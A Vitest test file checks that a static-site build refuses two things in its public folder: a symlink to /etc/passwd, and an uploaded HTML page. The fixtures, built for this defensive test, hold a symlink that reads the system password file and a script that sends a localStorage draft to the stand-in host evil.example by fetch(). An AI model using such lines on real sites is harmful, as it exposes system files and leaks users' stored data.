// The build and `npm run check` of a copy of the fixture site stop, naming the file, when public/ holds a link
// to a file of the build machine or a page in the web editor's media folder; what the link leads to is never
// printed, and no site is written.
import { existsSync, mkdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { fixtureSite as siteWith, stackTrace } from './support/fixture-site.ts';

describe('a link in public/ to /etc/passwd', () => {
  const { build, check, site } = siteWith('lien-ket', (site) =>
    symlinkSync('/etc/passwd', join(site, 'public', 'passwd')),
  );
  const secret = readFileSync('/etc/passwd', 'utf8').split('\n')[0]?.slice(0, 8) ?? 'root:x:0';

  it.each([
    ['the build', build],
    ['npm run check', check],
  ])('stops %s, naming the link and printing nothing of its target', (_, run) => {
    const { status, output } = run();
    expect(status).toBe(1);
    expect(output).toContain('✗ public/passwd');
    expect(output).toContain('«passwd» là liên kết tượng trưng (symlink)');
    expect(output).not.toContain(secret);
    expect(output).not.toContain('/etc/passwd');
    expect(output).not.toMatch(stackTrace);
    expect(existsSync(join(site, 'dist', 'passwd'))).toBe(false);
    expect(existsSync(join(site, 'dist', 'index.html'))).toBe(false);
  });
});

describe('a page in the web editor’s media folder', () => {
  const { build, site } = siteWith('trang-web', (site) => {
    mkdirSync(join(site, 'public', 'tep'), { recursive: true });
    writeFileSync(
      join(site, 'public', 'tep', 'thong-bao.html'),
      '<!doctype html><script>fetch("https://evil.example/?" + localStorage.getItem("nq57-feedback-draft"))</script>',
    );
  });

  it('stops the build, naming the file and what may be published', () => {
    const { status, output } = build();
    expect(status).toBe(1);
    expect(output).toContain('✗ public/tep/thong-bao.html');
    expect(output).toContain('Trang web và mã chạy trên trang không bao giờ được đăng');
    expect(output).not.toContain('evil.example');
    expect(output).not.toMatch(stackTrace);
    expect(existsSync(join(site, 'dist', 'tep', 'thong-bao.html'))).toBe(false);
  });
});
